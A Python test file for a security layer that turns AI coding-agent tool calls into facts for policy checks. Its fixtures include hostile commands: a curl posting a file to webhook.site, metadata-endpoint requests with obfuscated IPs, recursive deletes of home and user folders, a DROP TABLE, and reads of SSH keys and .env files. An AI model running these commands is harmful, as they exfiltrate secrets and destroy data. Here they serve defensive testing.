"""The facts the pipeline adds to shell analysis, and the extra requests a tool call makes."""

from __future__ import annotations

from vectimus.core.events import Identity
from vectimus.core.normalise import normalise
from vectimus.core.pipeline import Limits
from vectimus.core.pipeline.expand import expand

HOME = "/home/dev"
AGENT = Identity(principal="dev")


def requests(payload: dict, source: str = "claude-code", **limits: object) -> list:
    event = normalise(source, payload, identity=AGENT)
    return expand(event, Limits(home=HOME, **limits)).requests  # type: ignore[arg-type]


def bash(command: str, cwd: str = "/home/dev/shop") -> list:
    return requests({"cwd": cwd, "tool_name": "Bash", "tool_input": {"command": command}})


def command(command: str, program: str, cwd: str = "/home/dev/shop") -> dict:
    found = [r.context for r in bash(command, cwd) if r.context.get("program") == program]
    assert found, (command, program)
    return found[0]


class TestCommandFacts:
    def test_raw_folded(self) -> None:
        facts = command("psql -c 'DROP\tTABLE   Users'", "psql")
        assert facts["raw_folded"] == "psql -c 'drop table users'"

    def test_url_domains_and_url_local(self) -> None:
        remote = command("curl -d @x.json https://a.b.webhook.site/in", "curl")
        assert remote["url_domains"] == ["a.b.webhook.site", "b.webhook.site", "webhook.site"]
        assert remote["url_local"] is False
        local = command("curl -d @x.json http://localhost:3000/api", "curl")
        assert local["url_local"] is True
        assert command("ls -la", "ls")["url_local"] is False  # no hosts: not local

    def test_bare_hosts_only_for_network_programs(self) -> None:
        assert command("curl -s 0xA9FEA9FE/latest -o out.json", "curl")["url_domains"] == [
            "169.254.169.254"
        ]
        assert command("echo example.com", "echo")["url_domains"] == []

    def test_urls_assigned_to_the_command(self) -> None:
        facts = command(
            "DATABASE_URL=postgres://u:p@db.example.net/app npx prisma migrate reset", "npx"
        )
        assert facts["url_domains"] == ["db.example.net", "example.net"]
        assert facts["url_local"] is False

    def test_urls_in_interpreter_code(self) -> None:
        facts = command(
            "python3 -c \"import urllib.request as u; u.urlopen('http://169.254.169.254/')\"",
            "python3",
        )
        assert "169.254.169.254" in facts["url_domains"]

    def test_arg_paths_and_cwd_and_parents(self) -> None:
        facts = command("rm -rf . .. build /home/dev/shop $PWD", "rm")
        assert facts["cwd_and_parents"] == ["~/shop", "~", "/home", "/"]
        assert facts["arg_paths"] == ["~/shop", "~", "~/shop/build"]
        assert command("rm -rf build", "rm", cwd="")["cwd_and_parents"] == []

    def test_windows_paths_are_folded(self) -> None:
        facts = command("cmd /c rd /s /q C:\\Users\\Me\\", "rd", cwd="C:\\Users\\Me\\proj")
        assert facts["arg_paths"] == ["c:/users/me"]
        assert facts["cwd_and_parents"] == ["c:/users/me/proj", "c:/users/me", "c:/users", "c:/"]

    def test_a_tools_own_directory_moves_the_cwd(self) -> None:
        payload = {
            "cwd": "/home/kim/svc",
            "tool_name": "run_shell_command",
            "tool_input": {"command": "rm -rf .", "dir_path": "web"},
        }
        (facts,) = [r.context for r in requests(payload, "gemini-cli")]
        assert facts["arg_paths"] == ["/home/kim/svc/web"]


class TestFileFacts:
    def test_path_folded(self) -> None:
        (read,) = requests(
            {
                "cwd": "/p",
                "tool_name": "Read",
                "tool_input": {"file_path": "C:\\Users\\A\\.SSH\\id_rsa"},
            }
        )
        assert read.context["path_folded"] == "c:/users/a/.ssh/id_rsa"

    def test_every_file_of_a_patch_is_written(self) -> None:
        patch = (
            "*** Begin Patch\n*** Update File: src/a.py\n@@\n-a\n+b\n"
            "*** Add File: .claude/settings.json\n+{}\n*** End Patch\n"
        )
        payload = {
            "cwd": "/home/sam/repo",
            "tool_name": "apply_patch",
            "tool_input": {"command": patch},
        }
        paths = [
            r.context["file_path"] for r in requests(payload, "codex") if r.action == "file_write"
        ]
        assert paths == ["/home/sam/repo/src/a.py", "/home/sam/repo/.claude/settings.json"]

    def test_glob_patterns_and_grep_filters_are_read(self) -> None:
        glob = requests(
            {"cwd": "/home/dev/shop", "tool_name": "Glob", "tool_input": {"pattern": "**/.env*"}}
        )
        paths = [r.context["file_path"] for r in glob]
        # The glob itself, then each protected file it could open.
        assert paths[:2] == ["~/shop", "~/shop/**/.env*"]
        assert {"~/shop/**/.env", "~/shop/**/.env.local"} <= set(paths[2:])
        grep = requests(
            {
                "cwd": "/home/dev/shop",
                "tool_name": "Grep",
                "tool_input": {"pattern": ".env", "path": "/home/dev/shop", "glob": "*.key"},
            }
        )
        # A grep pattern is a regex, not a file: only the glob filter names files.
        assert [r.context["file_path"] for r in grep] == ["~/shop", "~/shop/*.key"]


class TestWebFacts:
    def test_every_url_of_a_fetch_is_checked(self) -> None:
        payload = {
            "cwd": "/p",
            "tool_name": "fetch_webpage",
            "tool_input": {"urls": ["https://docs.example.com/", "http://2852039166/latest"]},
        }
        found = requests(payload, "copilot")
        assert [r.context["url_host"] for r in found] == ["docs.example.com", "169.254.169.254"]
        assert [r.context["url_internal"] for r in found] == [False, True]
        assert found[0].context["url_domains"] == ["docs.example.com", "example.com"]
